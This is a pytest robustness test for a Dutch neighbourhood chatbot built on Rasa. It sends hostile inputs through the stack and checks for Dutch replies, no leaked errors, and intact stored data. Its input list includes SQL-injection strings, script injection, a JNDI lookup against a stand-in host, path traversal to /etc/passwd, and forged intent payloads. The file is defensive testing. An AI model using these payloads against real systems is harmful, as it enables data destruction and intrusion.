"""Hostile and odd input through the whole stack (the front end's forwarding code, Rasa's REST channel,
NLU, dialogue, action server, database): every message gets an answer in Dutch, no 5xx, no traceback,
no failed action, and what was stored before is still there, unchanged, afterwards."""
from __future__ import annotations

import asyncio
import json
import random
from typing import List, Tuple

import pytest
from sqlalchemy import select, text

from bot.rasa_client import RasaClient
from bot.rendering import EMPTY_TEXT, NO_ANSWER_TEXT, Reply
from buurtbot.dreams.wishes import save_wish
from buurtbot.people import get_or_create_person, set_role
from buurtbot.storage import get_engine, session_scope
from buurtbot.storage.models import DreamWish, Meetup, Role

FORMS = {  # a message that opens a form, so that hostile text also lands in slot validation
    "dream": "ik heb een wens voor mijn straat",
    "meetup": "ik wil een activiteit organiseren",
    "referral": "wie kan mij helpen",
    "youth": "ik wil meedoen met bouwen aan je toekomst",
    "callback": "ik wil een mens spreken",
}
TECHNICAL_WORDS = ("Traceback", "Exception", "Error", "None", "null", "{'", "sqlalchemy", "KeyError")


def hostile_messages() -> List[str]:
    rng = random.Random(8)
    fixed = [
        "", " ", "\n\n\t", "\u00a0", "\u200b\u200b", "\u202e\u202d", "\x00", "hoi\x00daar", "\x07\x08\x1b[31mrood",
        "a" * 20_000, "wens " * 4_000, "😀" * 500, "🔥🔥🔥", "🏠❤️🌳", "👨‍👩‍👧‍👦", "🤷‍♀️",
        "مرحبا، أحتاج مساعدة مع جيراني", "أريد أن أشارك حلمي لحيّنا", "Merhaba, komşum çok gürültü yapıyor",
        "Yardım edin lütfen, borçlarım var", "Dzień dobry, mam problem z sąsiadem", "Chcę zapisać się na spotkanie",
        "Привет, кто может помочь?", "你好", "ñandú çà øæå ß ﬁ", "İSTANBUL ıi",
        "'; DROP TABLE people; --", "\" OR 1=1 --", "1; DELETE FROM dream_wishes", "Robert'); DROP TABLE events;--",
        "<script>alert(1)</script>", "<b>vet</b><i>schuin</i>", "<a href='https://evil.example'>klik</a>", "&lt;&amp;&gt;",
        "**vet** _schuin_ `code` [link](https://evil.example)", "```\nblok\n```", "# kop\n- lijst", "||spoiler||",
        "99999999999999999999999999999999", "-1", "0", "1e308", "NaN", "3.14159", "1/0", "٣٤٥", "Ⅻ",
        "31 februari", "30 februari om 25:00", "32-13-2026", "gisteren om 19:00", "morgen om 99 uur", "over 1000 jaar",
        "/start", "/stop", "/help", "/hulp", "/onbekend", "/" + "x" * 200, "/start " + "y" * 300, "/start ../../etc/passwd",
        "/set_veto_status" + json.dumps({"veto_id": "1", "veto_status": "gehonoreerd"}),
        "/approve_meetup" + json.dumps({"meetup_id": "1", "decision": "ja"}),
        "/cancel_meetup" + json.dumps({"meetup_id": "99999999999999999999"}),
        "/rsvp_meetup" + json.dumps({"meetup_id": "-5"}),
        "/rsvp_meetup" + json.dumps({"meetup_id": "abc"}),
        "/cancel_rsvp" + json.dumps({"meetup_id": "1 OR 1=1"}),
        "/redeem_invite" + json.dumps({"invite_code": "x" * 5_000}),
        "/redeem_invite" + json.dumps({"invite_code": "'; DROP TABLE invites; --"}),
        "/create_invite" + json.dumps({"invite_role": "beheerder", "wijk": "Zuidwijk"}),
        "/show_wishes", "/export_my_data", "/ask_referral" + json.dumps({"topic": "x" * 3_000, "wijk": "<script>"}),
        "/ask_referral{broken json", "/ask_referral{\"topic\": }", "/greet" + "{" * 500, "/nonexistent_intent",
        "/emergency" + json.dumps({"channel": "\x00"}), "/share_dream" + json.dumps({"dream_wish": "x" * 100_00}),
        "/use_strip", "/check_strips", "/register_veto", "/report_off_record", "/forget_me" + json.dumps({"confirm": "ja"}),
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%s%n", "../../../../etc/passwd", "C:\\Windows\\system32",
        "\\u0000\\n", "\ufffd\ufffd", "null", "undefined", "true", "[]", "{}", "{\"a\": 1}",
    ]
    alphabet = "abcdefghijklmnopqrstuvwxyz ÄÖÜäöüéè0123456789!?.,;:'\"<>/\\{}[]()*_~`#@$%^&|+=-\u200b\u202e😀🏠"
    noise = ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 300))) for _ in range(120)]
    return fixed + noise


def cases() -> List[Tuple[str, str]]:
    """(sender, message): every hostile message once in plain chat, and a share of them inside each form."""
    messages = hostile_messages()
    plain = [(f"hostile-{i}", m) for i, m in enumerate(messages)]
    in_form = [(f"hostile-form-{form}", m) for form in FORMS for m in messages[::8]]
    return plain + in_form


@pytest.fixture(scope="module")
def rasa(stack_settings, stack) -> str:
    return stack_settings.rasa_url


@pytest.fixture(scope="module")
def stored_before(stack_settings) -> dict:
    """Data that must come through unchanged: a tenant's wish and a meetup."""
    with session_scope(stack_settings) as session:
        person = get_or_create_person(session, "hostile-witness")
        set_role(session, person, Role.bewoner, "Zuidwijk")
        wish = save_wish(session, person, "Een bankje onder de boom", "straat", "Zuidwijk", None, False)
        return {"wish": (wish.id, wish.wish, wish.place, wish.wijk)}


def say(rasa_url: str, sender: str, message: str) -> List[Reply]:
    """One turn through the forwarding code Telegram and the terminal use; a 5xx or a timeout raises
    RasaUnavailable and fails the test."""
    async def turn() -> List[Reply]:
        client = RasaClient([rasa_url], timeout=120)
        try:
            return await client.send(sender, message)
        finally:
            await client.close()

    return asyncio.run(turn())


def test_every_hostile_message_gets_a_dutch_answer_and_nothing_breaks(rasa, stack, stack_settings, stored_before) -> None:
    all_cases = cases()
    assert len(all_cases) >= 300
    for form, opener in FORMS.items():
        say(rasa, f"hostile-form-{form}", opener)
    silent, technical = [], []
    for sender, message in all_cases:
        replies = say(rasa, sender, message)
        texts = [r.text or "" for r in replies]
        # NO_ANSWER is the front end's safety net for a silent Rasa: here Rasa itself must answer.
        if texts == [NO_ANSWER_TEXT] or not any(t.strip() for t in texts):
            silent.append(message[:60])
        if not message.strip("\x00\u200b\u202e\u202d\u00a0 \n\t"):
            assert texts == [EMPTY_TEXT]
        technical += [(message[:60], t[:120]) for t in texts if any(w in t and w not in message for w in TECHNICAL_WORDS)]
    assert silent == [], f"{len(silent)} messages got no answer, e.g. {silent[:5]}"
    assert technical == []

    log = (stack_settings.var_dir / "log" / "actions.log").read_text(errors="replace")
    assert "failed with" not in log, log[log.find("failed with") - 200 : log.find("failed with") + 2000]


def test_what_was_stored_before_is_intact(rasa, stack_settings, stored_before) -> None:
    with session_scope(stack_settings) as session:
        wish = session.get(DreamWish, stored_before["wish"][0])
        assert (wish.id, wish.wish, wish.place, wish.wijk) == stored_before["wish"]
        for table in ("people", "dream_wishes", "meetups", "rsvps", "invites", "outbox", "events"):
            session.execute(text(f"SELECT count(*) FROM {table}")).scalar()  # every table still there
        assert session.execute(select(Meetup).where(Meetup.seats_taken < 0)).first() is None
    engine = get_engine(stack_settings.database_url)
    if engine.dialect.name == "sqlite":
        with engine.connect() as connection:
            assert connection.execute(text("PRAGMA integrity_check")).scalar() == "ok"
            assert connection.execute(text("PRAGMA foreign_key_check")).fetchall() == []
